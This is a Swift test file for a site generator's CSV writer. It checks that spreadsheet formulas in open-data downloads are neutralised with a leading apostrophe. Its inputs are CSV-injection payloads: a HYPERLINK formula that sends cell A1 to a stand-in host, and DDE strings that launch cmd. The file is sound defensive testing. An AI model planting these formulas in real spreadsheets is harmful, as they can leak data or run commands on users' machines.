import Foundation
import Testing
@testable import ThiduaSupport
@testable import ThiduaLoad
@testable import ThiduaModel
@testable import ThiduaRank
@testable import ThiduaChart
@testable import ThiduaRender
@testable import ThiduaWrite
@testable import ThiduaCore

/// Open-data CSV cells that a spreadsheet would run as formulas start with `'`.
struct CSVInjectionTests {
    func field(_ text: String) -> String {
        var csv = CSVText()
        csv.field(text)
        return String(decoding: csv.bytes.dropFirst(3), as: UTF8.self)
    }

    @Test func formulaLikeTextIsNeutralised() {
        #expect(field("=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")") == "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Xem\"\")\"")
        #expect(field("+1+cmd|' /C calc'!A0") == "'+1+cmd|' /C calc'!A0")
        #expect(field("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0")
        #expect(field("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0")
        #expect(field("\t=1+1") == "'\t=1+1")
        #expect(field("\r=1+1") == "\"'\r=1+1\"")
        #expect(field("-") == "'-")
        #expect(field("-inf") == "'-inf")
    }

    /// Integers and flags are written as bytes: as `String(n)` spells them.
    @Test func integersAndFlagsAsBytes() {
        var csv = CSVText()
        for n in [0, 7, -7, 37_051, -2_614_507_177, Int.max, Int.min] {
            csv.integer(n)
            csv.comma()
        }
        csv.flag(true)
        csv.flag(false)
        #expect(String(decoding: csv.bytes.dropFirst(3), as: UTF8.self)
                == "0,7,-7,37051,-2614507177,\(Int.max),\(Int.min),10")
    }

    @Test func numbersAndPlainTextStayAsTheyAre() {
        #expect(field("-500") == "-500")
        #expect(field("-0.28") == "-0.28")
        #expect(field("-1.5e-3") == "-1.5e-3")
        #expect(field("+12") == "+12")
        #expect(field("Phòng Quản lý thương mại") == "Phòng Quản lý thương mại")
        #expect(field("a=b") == "a=b")
        #expect(field("") == "")
    }

    @Test func unitNamesReachTheDownloadsNeutralised() throws {
        let site = TestSite([
            "c/campaign.md": campaignMD("""
                title: "Thi đua"
                period: {start: 2024-01-01, end: 2024-12-31}
                groups: [{id: g, name: "Khối"}]
                metrics: [{id: total}, {id: online}]
                indicators: [{id: rate, formula: "online / total", format: percent}]
                """),
            "c/units.csv": "id,name,group\na,\"=HYPERLINK(\"\"http://x.example\"\",\"\"A\"\")\",g\nb,@SUM(1+1),g\n",
            "c/data/2024-01-31.csv": "unit,total,online\na,10,5\nb,20,-5\n",
        ])
        _ = try site.build()
        let leaderboard = try #require(site.text("c/data/leaderboard.csv"))
        let history = try #require(site.text("c/data/history.csv"))
        #expect(leaderboard.contains("\"'=HYPERLINK(\"\"http://x.example\"\",\"\"A\"\")\""))
        #expect(leaderboard.contains(",'@SUM(1+1),"))
        // history.csv names units by id only (names are in leaderboard.csv).
        #expect(!history.contains("HYPERLINK") && !history.contains("SUM"))
        for csv in [leaderboard, history] {
            #expect(!csv.contains(",=") && !csv.contains(",@") && !csv.contains(",\"="))
        }
        // The negative figure stays a number.
        #expect(history.contains(",-5"))
        #expect(!history.contains("'-5"))
    }
}
